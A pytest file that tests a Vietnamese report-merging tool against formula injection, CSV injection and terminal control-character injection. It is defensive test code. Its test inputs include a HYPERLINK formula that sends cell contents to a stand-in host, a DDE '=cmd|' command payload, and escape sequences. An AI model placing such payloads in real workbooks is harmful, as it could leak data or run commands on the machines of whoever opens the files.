"""Text from submitted files never becomes a formula in what the tool writes: the roll-up workbooks,
the marked copy, the history's exports (.csv, .xlsx) and the Word report. The texts come from
hand-made commune files (notes typed as text, as Excel keeps "'=..." typed with an apostrophe) and
from a district roll-up whose state names its units so (a state is the sender's to write); every
output is then read back as a program reads it and opened by LibreOffice, which evaluates a CSV
cell starting with "=" as a formula."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cchc_xl import meta
from cchc_xl.cli import main
from cchc_xl.submission import MAX_UNIT_CHARS
from cchc_xl.writing.formula_text import starts_like_formula
from handmade import seed_rows, write_form

# What a spreadsheet could run: a formula sign first, after spaces, after a tab or a carriage return.
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+SUM(1;2)", "-2+3", "@SUM(1)", "\t=1+1", " =1+1",
           "\r=1+1", "=cmd|' /C calc'!A0"]
NOTE_ROWS = ("1.1.", "1.2.", "1.3.", "2.1.", "2.2.", "2.3.", "2.4.", "3.1.")
# Units of the district roll-up as its state names them.
UNITS = {"UBND xã Bình Yên": HOSTILE[0], "UBND xã Phú Đình": " =1+1"}


def commune(folder: Path, name: str) -> Path:
    """A commune's file with a hostile note on each of NOTE_ROWS, kept as text the way Excel keeps it."""
    path = write_form(folder / name, seed_rows("004"), title_lines=(
        "PHỤ LỤC", "BÁO CÁO CÔNG TÁC CẢI CÁCH HÀNH CHÍNH QUÝ I NĂM 2024",
        f"(Kèm theo Báo cáo số 25/BC-UBND ngày 14/3/2024 của UBND xã {name})"))
    book = load_workbook(path)
    notes = iter(HOSTILE)
    for row in book.active.iter_rows():
        if row[0].value and str(row[0].value).strip() in NOTE_ROWS:
            row[4].value = next(notes)
            row[4].data_type = "s"
    book.save(path)
    return path


def renamed_units(rollup: Path, target: Path) -> Path:
    """The roll-up with its units renamed in its state, as a sender may write it."""
    book = load_workbook(rollup)
    sheet = book["_cchc"]
    entries = meta.decode([[cell.value for cell in row] for row in sheet.iter_rows()])
    state = json.loads(entries["state"])
    for unit in state["units"]:
        unit["unit"] = UNITS[unit["unit"]]
    entries["state"] = json.dumps(state, ensure_ascii=False)
    sheet.delete_rows(1, sheet.max_row)
    for r, line in enumerate(meta.encode(entries), start=1):
        for c, value in enumerate(line, start=1):
            sheet.cell(r, c).value = value
            sheet.cell(r, c).data_type = "s"
    book.save(target)
    return target


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    """Every kind of output written from the hostile texts: name -> path."""
    pytest.importorskip("pandas")
    root = tmp_path_factory.mktemp("doc-hai")
    (root / "xa").mkdir()
    (root / "huyen").mkdir()
    for name in ("Bình Yên", "Phú Đình"):
        commune(root / "xa", name)
    written = {"tong-hop-huyen.xlsx": root / "tong-hop-huyen.xlsx", "tong-hop-tinh.xlsx": root / "tong-hop-tinh.xlsx",
               "danh-dau.xlsx": root / "danh-dau.xlsx", "xuat.xlsx": root / "xuat.xlsx",
               "xuat.csv": root / "xuat.csv", "xuat-rong.csv": root / "xuat-rong.csv", "bao-cao.docx": root / "bao-cao.docx"}
    assert main(["merge", str(root / "xa"), "-o", str(written["tong-hop-huyen.xlsx"]), "--no-history",
                 "--unit", "UBND huyện Định Hóa"]) == 0
    renamed_units(written["tong-hop-huyen.xlsx"], root / "huyen" / "dinh-hoa.xlsx")
    history = root / "lich-su.sqlite"
    assert main(["merge", str(root / "huyen"), "-o", str(written["tong-hop-tinh.xlsx"]), "--history", str(history),
                 "--unit", "UBND tỉnh Thái Nguyên"]) == 0
    assert main(["check", str(root / "xa" / "Bình Yên.xlsx"), "-o", str(written["danh-dau.xlsx"])]) == 0
    assert main(["export", "--history", str(history), "-o", str(written["xuat.xlsx"])]) == 0
    assert main(["export", "--history", str(history), "-o", str(written["xuat.csv"])]) == 0
    assert main(["export", "--history", str(history), "-o", str(written["xuat-rong.csv"]), "--wide"]) == 0
    assert main(["report", str(written["tong-hop-tinh.xlsx"]), "-o", str(written["bao-cao.docx"])]) == 0
    return written


def workbook_texts(path: Path) -> list[tuple[str, str, object, str]]:
    """(sheet, cell, value, openpyxl's data type) of every cell of `path`."""
    book = load_workbook(path)
    return [(sheet.title, cell.coordinate, cell.value, cell.data_type)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("name", ["tong-hop-huyen.xlsx", "tong-hop-tinh.xlsx", "danh-dau.xlsx", "xuat.xlsx"])
def test_hostile_texts_are_text_cells_of_every_workbook(outputs, name):
    cells = workbook_texts(outputs[name])
    with zipfile.ZipFile(outputs[name]) as package:
        sheets = b"".join(package.read(part) for part in package.namelist() if part.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets and b"<f " not in sheets  # no formula anywhere
    hostile = [(sheet, ref, value) for sheet, ref, value, kind in cells if isinstance(value, str) and kind == "s"
               and any(text.strip() in value for text in HOSTILE)]
    assert hostile, name  # the texts are there, as text
    expected = {"tong-hop-huyen.xlsx": {"Ghi chú đơn vị"}, "danh-dau.xlsx": {"Sheet1"},
                "tong-hop-tinh.xlsx": {"Chi tiết", "Tình hình nộp", "Biểu đồ", "Ghi chú đơn vị"}, "xuat.xlsx": {"Dạng dài", "Dạng rộng"}}
    assert expected[name] <= {sheet for sheet, _, _ in hostile}, name
    assert all(kind != "f" for *_, kind in cells)


@pytest.mark.parametrize("name", ["xuat.csv", "xuat-rong.csv"])
def test_a_csv_cell_that_starts_like_a_formula_starts_with_an_apostrophe(outputs, name):
    with open(outputs[name], encoding="utf-8-sig", newline="") as text:
        lines = list(csv.reader(text))
    cells = [cell for line in lines[1:] for cell in line]
    units = {line[lines[0].index("don_vi")] for line in lines[1:]}
    assert units == {"'" + unit for unit in UNITS.values()}
    assert not [cell for cell in cells if starts_like_formula(cell) and not number(cell)]


def number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_word_report_holds_the_unit_names_as_text_and_no_field(outputs):
    with zipfile.ZipFile(outputs["bao-cao.docx"]) as package:
        document = package.read("word/document.xml").decode("utf-8")
    assert not re.search(r"<w:(fldSimple|instrText|fldChar)\b", document)
    assert "=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;bấm&quot;)" in document \
        or '=HYPERLINK("http://x.example/?"&amp;A1,"bấm")' in document


@pytest.mark.libreoffice
def test_libreoffice_opens_every_output_without_a_formula(outputs, tmp_path):
    """LibreOffice evaluates "=1+1" in a CSV it opens; none of these gives it a formula."""
    from lo import convert_many

    names = ["tong-hop-tinh.xlsx", "danh-dau.xlsx", "xuat.xlsx", "xuat.csv", "xuat-rong.csv"]
    sources = []
    for name in names:  # one stem each: the converted files are named after their sources
        copy = tmp_path / "in" / f"{Path(name).stem}-{Path(name).suffix[1:]}{Path(name).suffix}"
        copy.parent.mkdir(exist_ok=True)
        copy.write_bytes(outputs[name].read_bytes())
        sources.append(copy)
    for source, opened in zip(sources, convert_many(sources, "xlsx", tmp_path / "out")):
        cells = workbook_texts(opened)
        assert cells and all(kind != "f" for *_, kind in cells), source.name


@pytest.mark.parametrize("name", ["tong-hop-huyen.xlsx", "tong-hop-tinh.xlsx", "xuat.xlsx"])
def test_a_text_that_starts_like_a_formula_keeps_excels_text_marker(outputs, name):
    """Excel turns such a text into a formula when an officer edits the cell and presses Enter, unless
    its style carries the text marker (quotePrefix); other text cells keep their usual styles."""
    book = load_workbook(outputs[name])
    texts = [(sheet.title, cell) for sheet in book.worksheets if sheet.sheet_state == "visible"
             for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    formula_like = [(sheet, cell.coordinate) for sheet, cell in texts if starts_like_formula(cell.value)]
    unmarked = [(sheet, cell.coordinate) for sheet, cell in texts
                if starts_like_formula(cell.value) and not cell.quotePrefix]
    assert formula_like and not unmarked
    assert not [(sheet, cell.coordinate) for sheet, cell in texts if cell.quotePrefix and not starts_like_formula(cell.value)]


def test_a_roll_up_of_ordinary_text_has_no_text_marker(tmp_path):
    """The styles of a roll-up whose texts are ordinary are those written before the marker existed."""
    (tmp_path / "xa").mkdir()
    write_form(tmp_path / "xa" / "Bình Yên", seed_rows("004"), title_lines=(
        "PHỤ LỤC", "BÁO CÁO CÔNG TÁC CẢI CÁCH HÀNH CHÍNH QUÝ I NĂM 2024",
        "(Kèm theo Báo cáo số 25/BC-UBND ngày 14/3/2024 của UBND xã Bình Yên)"))
    assert main(["merge", str(tmp_path / "xa"), "-o", str(tmp_path / "th.xlsx"), "--no-history"]) == 0
    with zipfile.ZipFile(tmp_path / "th.xlsx") as package:
        assert b"quotePrefix" not in package.read("xl/styles.xml")


def test_a_refused_file_named_like_a_formula_keeps_excels_text_marker(tmp_path):
    """A file name is the sender's to choose: the roll-up lists a refused file's name with the text marker."""
    (tmp_path / "xa").mkdir()
    write_form(tmp_path / "xa" / "Bình Yên", seed_rows("004"), title_lines=(
        "PHỤ LỤC", "BÁO CÁO CÔNG TÁC CẢI CÁCH HÀNH CHÍNH QUÝ I NĂM 2024",
        "(Kèm theo Báo cáo số 25/BC-UBND ngày 14/3/2024 của UBND xã Bình Yên)"))
    (tmp_path / "xa" / "=1+1.xlsx").write_bytes(b"PK\x03\x04 not a workbook")
    main(["merge", str(tmp_path / "xa"), "-o", str(tmp_path / "th.xlsx"), "--no-history"])
    sheet = load_workbook(tmp_path / "th.xlsx")["Tình hình nộp"]
    named = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and "=1+1" in cell.value]
    assert named and all(cell.quotePrefix for cell in named if starts_like_formula(cell.value))
    assert any(starts_like_formula(cell.value) for cell in named)


def test_the_state_sheet_of_a_roll_up_keeps_excels_text_marker(tmp_path):
    """The very hidden _cchc sheet holds the officer's --unit and the units' notes cut into parts of
    30,000 characters: the unit, starting like a formula, has the text marker, and no part of the
    state starts like a formula (a note of "a=a=…" is not cut before an "=")."""
    (tmp_path / "xa").mkdir()
    path = write_form(tmp_path / "xa" / "Bình Yên", seed_rows("004"), title_lines=(
        "PHỤ LỤC", "BÁO CÁO CÔNG TÁC CẢI CÁCH HÀNH CHÍNH QUÝ I NĂM 2024",
        "(Kèm theo Báo cáo số 25/BC-UBND ngày 14/3/2024 của UBND xã Bình Yên)"))
    book = load_workbook(path)
    rows = [row for row in book.active.iter_rows() if row[0].value and str(row[0].value).strip() in NOTE_ROWS]
    for shift, row in enumerate(rows):  # notes of different lengths: the parts' ends fall on each character
        row[4].value = "a" * shift + "a=" * 15_000
    book.save(path)
    assert main(["merge", str(tmp_path / "xa"), "-o", str(tmp_path / "th.xlsx"), "--no-history",
                 "--unit", "=HYPERLINK(\"http://x.example\")"]) == 0
    state = load_workbook(tmp_path / "th.xlsx")["_cchc"]
    texts = [cell for row in state.iter_rows() for cell in row if isinstance(cell.value, str)]
    formula_like = [cell for cell in texts if starts_like_formula(cell.value)]
    assert [cell.value for cell in formula_like] == ["=HYPERLINK(\"http://x.example\")"]
    assert all(cell.quotePrefix for cell in formula_like)
    entries = meta.decode([[cell.value for cell in row] for row in state.iter_rows()])
    assert sum(len(cell.value) > 29_000 for cell in texts) >= 4  # the state runs over several parts
    assert ("a=" * 15_000) in entries["state"]


@pytest.mark.parametrize("text", ["x" * 30_000 + "=1+1", "x" * 29_990 + " " * 20 + "@A1" + "y" * 40_000,
                                  "x" * 30_000 + "\t=1", "=" * 70_000, ""])
def test_the_state_parts_start_like_a_formula_only_where_the_text_leaves_no_choice(text):
    rows = meta.encode({"state": text})
    parts = [part for row in rows for part in row[1:]]
    assert meta.decode(rows) == {"state": text} and all(len(part) <= meta.CHUNK for part in parts)
    assert not any(starts_like_formula(part) for part in parts[1:]) or set(text) == {"="}


def test_a_template_for_a_unit_named_like_a_formula_keeps_excels_text_marker(tmp_path):
    assert main(["template", "--catalog", "phu-luc-ii", "--unit", "=1+1", "--period", "Quý I năm 2024",
                 "-o", str(tmp_path / "mau.xlsx")]) == 0
    unit = [cell for row in load_workbook(tmp_path / "mau.xlsx")["_cchc"].iter_rows() for cell in row if cell.value == "=1+1"]
    assert unit and all(cell.quotePrefix and cell.data_type == "s" for cell in unit)


# Text that would act on a terminal or a reader rather than show: an escape sequence clearing the screen, a
# bell, NUL, an OSC title, a right-to-left override. A workbook holds a control character as Excel writes
# it, _xHHHH_, which the reader turns back into the character.
CONTROL = "_x001B_[2J_x0007__x0000__x001B_]0;tieu de_x0007_\u202e"
UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202e]")


@pytest.fixture(scope="module")
def unseen_outputs(tmp_path_factory):
    """Every output made from three communes: a unit and notes holding CONTROL, a unit named by 100,000
    characters, a note that starts like a formula."""
    pytest.importorskip("pandas")
    root = tmp_path_factory.mktemp("khong-hien")
    (root / "xa").mkdir()
    (root / "huyen").mkdir()
    for file_name, unit, note in (("a", f"Bình{CONTROL}Yên", f"ghi chú {CONTROL}"), ("b", "Phú" + "x" * 100_000, "y" * 100),
                                  ("c", "Tân An", "=HYPERLINK(\"http://x.example\")")):
        path = write_form(root / "xa" / file_name, seed_rows("004"), title_lines=(
            "PHỤ LỤC", "BÁO CÁO CÔNG TÁC CẢI CÁCH HÀNH CHÍNH QUÝ I NĂM 2024",
            f"(Kèm theo Báo cáo số 25/BC-UBND ngày 14/3/2024 của UBND xã {unit})"))
        book = load_workbook(path)
        for row in book.active.iter_rows():
            if row[0].value and str(row[0].value).strip() in NOTE_ROWS[:2]:
                row[4].value = note
        book.save(path)
    out = {name: root / name for name in ("th.xlsx", "tinh.xlsx", "dd.xlsx", "xuat.xlsx", "xuat.csv", "bc.docx")}
    history = root / "lich-su.sqlite"
    main(["check", str(root / "xa" / "a.xlsx"), "-o", str(out["dd.xlsx"])])
    main(["merge", str(root / "xa"), "-o", str(out["th.xlsx"]), "--history", str(history), "--unit", "UBND huyện A"])
    (root / "huyen" / "a.xlsx").write_bytes(out["th.xlsx"].read_bytes())
    main(["merge", str(root / "huyen"), "-o", str(out["tinh.xlsx"]), "--no-history", "--unit", "UBND tỉnh B"])
    main(["export", "--history", str(history), "-o", str(out["xuat.xlsx"])])
    main(["export", "--history", str(history), "-o", str(out["xuat.csv"])])
    main(["report", str(out["th.xlsx"]), "-o", str(out["bc.docx"])])
    return out


def test_the_terminal_shows_no_control_character(tmp_path, capsys):
    """What check and merge print of such units and notes shows each control character by its code."""
    (tmp_path / "xa").mkdir()
    write_form(tmp_path / "xa" / "a", seed_rows("004"), title_lines=(
        "PHỤ LỤC", "BÁO CÁO CÔNG TÁC CẢI CÁCH HÀNH CHÍNH QUÝ I NĂM 2024",
        f"(Kèm theo Báo cáo số 25/BC-UBND ngày 14/3/2024 của UBND xã Bình{CONTROL}Yên)"))
    for call, named in ((["check", str(tmp_path / "xa")], True),
                        (["merge", str(tmp_path / "xa"), "-o", str(tmp_path / "th.xlsx"), "--no-history"], False)):
        main(call)
        printed = capsys.readouterr()
        assert not named or "Bình\\u001b[2J\\u0007" in printed.out
        assert not UNSEEN.search(printed.out + printed.err)


@pytest.mark.parametrize("name", ["th.xlsx", "tinh.xlsx", "dd.xlsx", "xuat.xlsx"])
def test_workbooks_of_control_characters_and_long_names_open_and_hold_no_formula(unseen_outputs, name):
    """A unit's name of 100,000 characters is cut at MAX_UNIT_CHARS where it is read (kept whole, each
    roll-up sheet naming it took LibreOffice 42 s to open)."""
    cells = workbook_texts(unseen_outputs[name])
    assert cells and all(kind != "f" for *_, kind in cells)
    named = [str(value) for *_, value, _ in cells if "Phúxxx" in str(value)]
    assert not [text for text in named if "x" * (MAX_UNIT_CHARS + 1) in text]
    assert name == "dd.xlsx" or any("x" * (MAX_UNIT_CHARS - 20) + "…" in text for text in named)


def test_the_word_report_leaves_control_characters_out(unseen_outputs):
    with zipfile.ZipFile(unseen_outputs["bc.docx"]) as package:
        document = package.read("word/document.xml").decode("utf-8")
    assert "Bình" in document and not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", document)


@pytest.mark.libreoffice
def test_libreoffice_opens_every_output_of_control_characters_and_long_names(unseen_outputs, tmp_path):
    """Each is opened and saved again by LibreOffice; the saved workbooks hold their texts and no formula."""
    from lo import convert, convert_many

    sources = [unseen_outputs[name] for name in ("th.xlsx", "tinh.xlsx", "dd.xlsx", "xuat.xlsx")]
    for saved in convert_many(sources, "xlsx", tmp_path / "lo"):
        cells = workbook_texts(saved)
        assert any("Bình" in str(value) for *_, value, _ in cells) and all(kind != "f" for *_, kind in cells), saved.name
    assert "Bình" in zipfile.ZipFile(convert(unseen_outputs["bc.docx"], "docx", tmp_path / "lo")).read(
        "word/document.xml").decode("utf-8")
